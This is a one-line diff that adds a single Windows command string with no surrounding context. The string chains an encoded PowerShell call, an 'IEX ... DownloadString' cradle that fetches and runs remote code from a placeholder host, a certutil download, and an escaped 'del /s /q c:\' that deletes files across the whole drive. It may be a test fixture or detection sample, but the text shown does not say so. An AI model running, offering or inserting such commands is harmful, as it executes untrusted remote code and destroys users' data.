@@ -1,0 +1,1 @@
+powershell -NoP -enc SQBFAFgA; IEX (New-Object Net.WebClient).DownloadString('http://x'); certutil -urlcache -f http://x y ^& del /s /q c:\
